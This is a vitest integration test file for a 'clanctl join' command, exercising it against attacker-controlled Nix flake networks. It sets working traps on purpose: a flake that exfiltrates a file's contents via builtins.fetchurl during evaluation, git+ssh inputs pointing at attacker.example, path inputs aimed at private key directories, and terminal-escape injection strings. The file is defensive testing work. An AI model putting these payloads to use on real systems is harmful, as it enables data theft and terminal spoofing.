import { randomBytes } from "node:crypto";
import { chmod, mkdir, mkdtemp, readFile, rm, stat, writeFile } from "node:fs/promises";
import { existsSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startAnsweringNotifications } from "../helpers/answering-notifications.js";
import { clanctl } from "../helpers/daemons.js";
import { startGitHttpsServer, startRecordingServer, type GitHttpsServer, type RecordingServer } from "../helpers/git-https-server.js";
import { TEST_NIX_CONFIG } from "../helpers/network-flake.js";
import { hasBinary, skipReason } from "../helpers/processes.js";
import { startSessionBus, type SessionBus } from "../helpers/session-bus.js";
import { clanctlOnTerminal } from "../helpers/terminal-answers.js";

// `clanctl join` against hostile networks, with the real Nix 2.8, git and clanctl: the attacker writes the link
// and the flake. Before the user says yes nothing may be fetched; after the first yes only the source is fetched
// (no flake.lock written, no input fetched, none of the flake's Nix evaluated); inputs that reach beyond the
// network's server are refused by name. Each trap is shown to work by springing it with plain Nix, as the old
// `nix flake metadata`/`nix flake show` did, so no assertion here can pass because the trap was broken.

const needs = ["nix", "git", "openssl", "script", "dbus-daemon"];
const isRoot = process.getuid?.() === 0;
const NIX = ["--extra-experimental-features", "nix-command flakes", "--option", "build-users-group", ""];

describe.skipIf(!needs.every(hasBinary) || !isRoot)(`clanctl join, hostile networks ${skipReason(...needs)}${isRoot ? "" : " (needs root for the Nix store)"}`, () => {
  let work: string;
  let bus: SessionBus;
  let https: GitHttpsServer;
  let exfiltration: RecordingServer;
  let env: Record<string, string>;
  let configFile: string;
  let sshLog: string;
  let privateDir: string;
  let privateStorePath: string;

  beforeAll(async () => {
    work = await mkdtemp(join(tmpdir(), "clan-join-hostile-"));
    bus = await startSessionBus();
    https = await startGitHttpsServer();
    exfiltration = await startRecordingServer();
    // A fake ssh first on PATH records any attempt to reach the attacker's host.
    const bin = join(work, "bin");
    sshLog = join(work, "ssh-ran");
    await mkdir(bin);
    await writeFile(join(bin, "ssh"), `#!/bin/sh\necho "ssh $*" >>${sshLog}\nexit 1\n`);
    await chmod(join(bin, "ssh"), 0o755);
    // The user's private directory: content unique to this run, so its store path exists only if it was copied.
    privateDir = join(work, `private-${randomBytes(6).toString("hex")}`);
    await mkdir(privateDir, { mode: 0o700 });
    await writeFile(join(privateDir, "id_ed25519"), `secret ${randomBytes(16).toString("hex")}\n`);
    privateStorePath = (await execa("nix", [...NIX, "store", "add-path", "--dry-run", "--name", "source", privateDir])).stdout.trim();
    configFile = join(work, "config.json");
    await writeFile(configFile, '{ "networks": {} }\n');
    env = {
      PATH: `${bin}:${process.env.PATH}`,
      DBUS_SESSION_BUS_ADDRESS: bus.address,
      CLAN_DESKTOP_CONFIG: configFile,
      NIX_CONFIG: TEST_NIX_CONFIG,
      GIT_SSL_CAINFO: https.caFile,
      // Nix's git and eval caches, for this test only.
      XDG_CACHE_HOME: join(work, "cache"),
    };
  });

  afterAll(async () => {
    await https?.stop();
    await exfiltration?.stop();
    await bus?.stop();
    if (work) await rm(work, { recursive: true, force: true });
  });

  /** A git repository with these files committed, as an attacker would publish it. */
  async function repository(name: string, files: Record<string, string>): Promise<string> {
    const dir = join(work, name);
    await mkdir(dir);
    for (const [file, text] of Object.entries(files)) await writeFile(join(dir, file), text);
    const git = (...args: string[]) => execa("git", ["-C", dir, "-c", "user.name=attacker", "-c", "user.email=a@example.invalid", ...args]);
    // git's dumb http protocol does not tell Nix 2.8 the default branch; it then assumes master.
    await git("init", "-q", "-b", "master");
    await git("add", "-A");
    await git("commit", "-q", "-m", name);
    return dir;
  }

  const sshRan = () => readFile(sshLog, "utf8").catch(() => "");
  const networks = async () => Object.keys(JSON.parse(await readFile(configFile, "utf8")).networks);
  const NAR = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
  const REV = "0123456789abcdef0123456789abcdef01234567";
  const lockFile = (inputs: Record<string, unknown>) =>
    JSON.stringify({ version: 7, root: "root", nodes: { root: { inputs: Object.fromEntries(Object.keys(inputs).map((k) => [k, k])) }, ...inputs } });
  const NO_OUTPUTS = "{ outputs = { self }: { }; }\n";

  it('"n" to a terminal link to a private directory copies nothing into the store; "y" would (the trap works)', async () => {
    const link = `clan://path:${privateDir}#default`;
    const refused = await clanctlOnTerminal(["join", link], env, ["n"]);
    expect(refused.output).toContain("WARNING:   the source is a directory on this computer");
    expect(refused.output).toContain("Nothing was fetched.");
    expect(refused.questions).toBe(1);
    expect(existsSync(privateStorePath)).toBe(false);

    const fetched = await clanctlOnTerminal(["join", link], env, ["y", "n"]);
    expect(fetched.output).toContain("Nothing was joined.");
    expect(fetched.questions).toBe(2);
    expect(existsSync(privateStorePath)).toBe(true);
    expect(await networks()).toEqual([]);
  });

  it("a clicked clan://path: link is refused before any question, and nothing is copied", async () => {
    const other = join(work, `clicked-${randomBytes(6).toString("hex")}`);
    await mkdir(other);
    await writeFile(join(other, "notes"), randomBytes(16).toString("hex"));
    const storePath = (await execa("nix", [...NIX, "store", "add-path", "--dry-run", "--name", "source", other])).stdout.trim();
    const notifications = await startAnsweringNotifications(bus.address, ["accept", "accept"]);
    try {
      for (const link of [`clan://path:${other}`, `clan://git+file://${other}`]) {
        const result = await clanctl(["join", "--from-desktop", link], env);
        expect(result.exitCode).not.toBe(0);
        expect(result.stderr).toContain("a clicked link may not name a directory or repository on this computer");
      }
      expect(notifications.asked.every((asked) => asked.actions.length === 0 && asked.summary === "Joining the network failed")).toBe(true);
      expect(notifications.asked).toHaveLength(2);
      expect(existsSync(storePath)).toBe(false);
    } finally {
      notifications.stop();
    }
  });

  it("Cancel on a clicked https link to 127.0.0.1 sends the server nothing, and the question names the loopback host", async () => {
    const flake = await repository("cancelled", { "flake.nix": NO_OUTPUTS });
    const url = await https.publish(flake, "cancelled");
    const notifications = await startAnsweringNotifications(bus.address, ["cancel"]);
    const before = https.requests.length;
    try {
      const result = await clanctl(["join", "--from-desktop", `clan://git+${url}#default`], env);
      expect(result.stdout).toContain("Nothing was fetched.");
      expect(notifications.asked[0]!.summary).toBe("Fetch the source of network cancelled from 127.0.0.1?");
      expect(notifications.asked[0]!.actions).toEqual(["accept", "Fetch", "cancel", "Cancel"]);
      expect(notifications.asked[0]!.body).toContain("WARNING:   the host 127.0.0.1 is this computer (loopback)");
      expect(https.requests.slice(before)).toEqual([]);
    } finally {
      notifications.stop();
    }
  });

  it("a flake that sends a file out while it is evaluated is fetched, shown and never evaluated", async () => {
    const leak = `http://127.0.0.1:${exfiltration.port}/leak`;
    const trap = `let leak = builtins.fetchurl { url = "${leak}?\${builtins.readFile ./marker}"; sha256 = "${randomBytes(32).toString("base64")}"; };`;
    const flake = await repository("exfiltrating", {
      "marker": "marker-value",
      "flake.nix": `{ outputs = { self }: ${trap} in { packages.x86_64-linux.default = builtins.seq leak (derivation { name = "x"; system = "x86_64-linux"; builder = "/bin/sh"; }); }; }\n`,
      "configs.json": JSON.stringify({ default: { system: "x86_64-linux", networkLayer: "yggdrasil", applications: { syncthing: { sharedFolders: ["/home/shared"] } } } }),
    });
    const url = await https.publish(flake, "exfiltrating");
    const notifications = await startAnsweringNotifications(bus.address, ["accept", "cancel"]);
    try {
      const result = await clanctl(["join", "--from-desktop", `clan://git+${url}`], env);
      expect(result.stdout, result.all).toContain("Nothing was joined.");
      expect(notifications.asked.map((asked) => asked.summary)).toEqual(["Fetch the source of network exfiltrating from 127.0.0.1?", "Join network exfiltrating?"]);
      const request = notifications.asked[1]!.body;
      expect(request).toContain("machine:   default — builds packages.x86_64-linux.default");
      expect(request).toContain("network:   VPN yggdrasil");
      expect(request).toContain("shares:    this computer's Nix store, read-only; syncthing shares /home/shared (inside the VM) with the network");
      expect(https.requests.some((path) => path.includes("exfiltrating.git"))).toBe(true);
      expect(exfiltration.requests).toEqual([]);
    } finally {
      notifications.stop();
    }
    // The trap works: evaluating the flake, as `nix flake show` did before the question, sends the marker out.
    await execa("nix", [...NIX, "eval", "--raw", `git+file://${flake}#packages.x86_64-linux.default.name`], { reject: false, env: { XDG_CACHE_HOME: join(work, "cache") } });
    expect(exfiltration.requests).toEqual(["/leak?marker-value"]);
  });

  it("a remote flake whose flake.lock has git+ssh and path: inputs is refused by name after the fetch; ssh never runs", async () => {
    const keys = join(work, `keys-${randomBytes(6).toString("hex")}`);
    await mkdir(keys, { mode: 0o700 });
    await writeFile(join(keys, "id_ed25519"), randomBytes(16).toString("hex"));
    const keysStorePath = (await execa("nix", [...NIX, "store", "add-path", "--dry-run", "--name", "source", keys])).stdout.trim();
    const flake = await repository("inputs", {
      "flake.nix": `{ inputs.tools = { url = "git+ssh://git@attacker.example/tools"; flake = false; };\n  inputs.keys = { url = "path:${keys}"; flake = false; };\n  outputs = { self, tools, keys }: { }; }\n`,
      "flake.lock": lockFile({
        tools: { flake: false, locked: { type: "git", url: "ssh://git@attacker.example/tools", rev: REV, narHash: NAR }, original: { type: "git", url: "ssh://git@attacker.example/tools" } },
        keys: { flake: false, locked: { type: "path", path: keys, narHash: NAR }, original: { type: "path", path: keys } },
      }),
    });
    const url = await https.publish(flake, "inputs");
    const result = await clanctl(["join", "--yes", `clan://git+${url}#default`], env);
    expect(result.exitCode).not.toBe(0);
    expect(result.stderr).toContain("refused network: its flake has inputs that reach beyond the network's server");
    expect(result.stderr).toMatch(/ {2}tools \(ssh:\/\/git@attacker\.example\/tools\) is fetched over ssh/);
    expect(result.stderr).toContain(`  keys (path:${keys}) is a file or directory of this computer`);
    expect(result.stderr).toContain('add ["ssh","local"] to "join": {"allowInputs": […]}');
    expect(await sshRan()).toBe("");
    expect(existsSync(keysStorePath)).toBe(false);
    expect(await networks()).toEqual([]);
    // The trap works: Nix itself, locking such a flake as `nix flake metadata` did before the question, runs ssh.
    const unlocked = await repository("inputs-unlocked", {
      "flake.nix": `{ inputs.tools = { url = "git+ssh://git@attacker.example/tools"; flake = false; };\n  outputs = { self, tools }: { }; }\n`,
    });
    await execa("nix", [...NIX, "flake", "metadata", `git+file://${unlocked}`], { reject: false, env, extendEnv: true });
    expect(await sshRan()).toContain("attacker.example");
  });

  it("a terminal join of a local flake writes no flake.lock into it and fetches none of its inputs", async () => {
    const dependency = join(work, `dependency-${randomBytes(6).toString("hex")}`);
    await mkdir(dependency);
    await writeFile(join(dependency, "data"), randomBytes(16).toString("hex"));
    const dependencyStorePath = (await execa("nix", [...NIX, "store", "add-path", "--dry-run", "--name", "source", dependency])).stdout.trim();
    const flake = await repository("unlocked", {
      "flake.nix": `{ inputs.dep = { url = "path:${dependency}"; flake = false; };\n  outputs = { self, dep }: { }; }\n`,
    });
    const result = await clanctlOnTerminal(["join", `clan://git+file://${flake}#default`], env, ["y", "n"]);
    expect(result.output).toContain("WARNING:   the flake has no flake.lock: inputs its flake.nix declares are fetched unlocked when it is built");
    expect(result.output).toContain("Nothing was joined.");
    expect(existsSync(join(flake, "flake.lock"))).toBe(false);
    expect((await execa("git", ["-C", flake, "status", "--porcelain"])).stdout).toBe("");
    expect(existsSync(dependencyStorePath)).toBe(false);
    // The trap works: `nix flake metadata`, which clanctl used to run before asking, writes and `git add`s one.
    await execa("nix", [...NIX, "flake", "metadata", `git+file://${flake}`], { reject: false, env, extendEnv: true });
    expect((await stat(join(flake, "flake.lock"))).isFile()).toBe(true);
    expect((await execa("git", ["-C", flake, "status", "--porcelain"])).stdout).toMatch(/^ ?A +flake\.lock$/m);
  });

  it("input names and sources from flake.lock are shown escaped", async () => {
    const hostile = "tools\u001b[2J\u001b[31m\u202egnp.exe";
    const flake = await repository("escapes", {
      "flake.nix": NO_OUTPUTS,
      "flake.lock": JSON.stringify({
        version: 7,
        root: "root",
        nodes: { root: { inputs: { [hostile]: "n" } }, n: { locked: { type: "git", url: "ssh://h/\u001b]0;pwned\u0007", rev: REV, narHash: NAR } } },
      }),
    });
    const url = await https.publish(flake, "escapes");
    const result = await clanctl(["join", "--yes", `clan://git+${url}#default`], env);
    expect(result.stderr).toContain("tools\\u{001B}[2J\\u{001B}[31m\\u{202E}gnp.exe (ssh://h/\\u{001B}]0;pwned\\u{0007}) is fetched over ssh");
    expect(result.stderr).not.toMatch(/[\u001b\u0007\u202e]/);
  });

  it("join.allowInputs lets the user accept ssh inputs: the question lists them, nothing is fetched from them", async () => {
    await writeFile(configFile, JSON.stringify({ networks: {}, join: { allowInputs: ["ssh"] } }));
    await rm(sshLog, { force: true });
    const flake = await repository("allowed-ssh", {
      "flake.nix": `{ inputs.tools = { url = "git+ssh://git@attacker.example/tools"; flake = false; };\n  outputs = { self, tools }: { }; }\n`,
      "flake.lock": lockFile({ tools: { flake: false, locked: { type: "git", url: "ssh://git@attacker.example/tools", rev: REV, narHash: NAR } } }),
    });
    const url = await https.publish(flake, "allowed-ssh");
    const notifications = await startAnsweringNotifications(bus.address, ["accept", "cancel"]);
    try {
      const result = await clanctl(["join", "--from-desktop", `clan://git+${url}#default`], env);
      expect(result.stdout, result.all).toContain("Nothing was joined.");
      expect(notifications.asked[1]!.body).toContain("inputs:    tools from ssh://git@attacker.example/tools [ssh]");
      expect(await sshRan()).toBe("");
    } finally {
      notifications.stop();
      await writeFile(configFile, '{ "networks": {} }\n');
    }
  });
});
